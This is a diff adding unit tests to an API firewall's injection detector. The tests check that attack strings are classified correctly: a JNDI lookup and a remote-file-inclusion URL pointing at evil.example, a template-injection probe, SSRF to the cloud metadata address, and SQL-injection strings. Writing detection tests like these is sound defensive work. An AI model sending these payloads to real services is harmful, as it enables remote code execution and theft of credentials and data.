@@ -3,10 +3,15 @@ package io.apiguard.detection.detectors;
 import static io.apiguard.detection.TestCalls.T0;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.util.List;
+
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
+import io.apiguard.common.events.ApiCallRecord;
+import io.apiguard.common.inspect.InspectedRequest;
 import io.apiguard.detection.TestCalls;
 
 class InjectionDetectorTest {
@@ -41,6 +46,62 @@ class InjectionDetectorTest {
 
         assertThat(replay.types("mallory")).contains(type);
         assertThat(replay.about("mallory").get(0).recommendedAction()).isEqualTo("block-subject");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "/lookup | q=${jndi:ldap://evil.example/a} | jndi-lookup",
+                "/render | name={{7*7}}{{config.items()}} | template-injection",
+                "/include | page=http://evil.example/shell.txt? | remote-file-inclusion",
+            })
+    void theFirewallsNewerFamiliesAreDetectedToo(String path, String query, String type) {
+        replay.run(TestCalls.by("mallory").at(T0).query(query).raw("GET", path));
+
+        assertThat(replay.types("mallory")).contains(type);
+    }
+
+    @Test
+    void aSignatureTheSidecarMatchedInTheBodyIsAPayloadOfItsFamily() {
+        // Given: SSRF in a JSON body, which detection never sees itself; the sidecar matched it in line
+        ApiCallRecord call = TestCalls.by("mallory")
+                .at(T0)
+                .inspected(new ApiCallRecord.Violation(
+                        InspectedRequest.KIND,
+                        "ssrf-metadata",
+                        "body/callback",
+                        "ssrf-metadata in body/callback: http://169.254.169.254/latest"))
+                .plain("POST", "/webhooks");
+
+        // When
+        replay.run(call);
+
+        // Then
+        assertThat(replay.types("mallory")).containsExactly("ssrf");
+        assertThat(replay.about("mallory").get(0).summary()).contains("body/callback");
+    }
+
+    @Test
+    void aSpecViolationIsNoPayloadAndTheSameFamilyInUriAndBodyIsOneSignal() {
+        // Given
+        ApiCallRecord mistyped = TestCalls.by("alice")
+                .at(T0)
+                .inspected(new ApiCallRecord.Violation("spec", "unknown-property", "body/nickname", "not declared"))
+                .plain("POST", "/profiles");
+        ApiCallRecord both = TestCalls.by("mallory")
+                .at(T0)
+                .query("q=1%27%20OR%20%271%27%3D%271")
+                .inspected(new ApiCallRecord.Violation(
+                        InspectedRequest.KIND, "sql-injection", "body/name", "sql-injection in body/name: ' OR 1=1"))
+                .raw("POST", "/search");
+
+        // When
+        replay.run(List.of(mistyped, both));
+
+        // Then
+        assertThat(replay.types("alice")).isEmpty();
+        assertThat(replay.types("mallory")).containsExactly("sql-injection");
     }
 
     @ParameterizedTest
